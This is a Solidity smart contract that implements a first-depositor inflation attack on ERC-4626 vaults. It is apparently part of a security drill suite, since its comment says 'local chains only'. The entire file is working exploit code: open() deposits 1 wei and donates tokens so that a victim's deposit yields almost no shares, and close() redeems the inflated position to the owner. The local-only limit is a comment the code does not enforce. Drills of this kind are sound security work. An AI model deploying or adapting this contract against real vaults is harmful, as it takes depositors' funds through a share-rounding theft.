// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

interface IInflatableVault {
    function asset() external view returns (address);
    function deposit(uint256 assets, address receiver) external returns (uint256);
    function redeem(uint256 shares, address receiver, address owner) external returns (uint256);
    function balanceOf(address account) external view returns (uint256);
}

/// @title InflationAttack
/// @notice Drill attack (D2), for local chains only. First-depositor inflation of an ERC-4626 vault, in two calls around the victim's
/// deposit. The contract must hold the donation plus 1 wei of the asset before {open}.
contract InflationAttack {
    using SafeERC20 for IERC20;

    address public immutable OWNER;

    error NotOwner();

    modifier onlyOwner() {
        if (msg.sender != OWNER) revert NotOwner();
        _;
    }

    constructor() {
        OWNER = msg.sender;
    }

    /// @notice Deposits 1 wei, then donates: one share is now worth the donation.
    function open(address vault, uint256 donation) external onlyOwner {
        IERC20 asset = IERC20(IInflatableVault(vault).asset());
        asset.forceApprove(vault, 1);
        IInflatableVault(vault).deposit(1, address(this));
        asset.safeTransfer(vault, donation);
    }

    /// @notice Redeems everything and pays the owner.
    function close(address vault) external onlyOwner returns (uint256 assets) {
        uint256 shares = IInflatableVault(vault).balanceOf(address(this));
        assets = IInflatableVault(vault).redeem(shares, OWNER, address(this));
    }
}
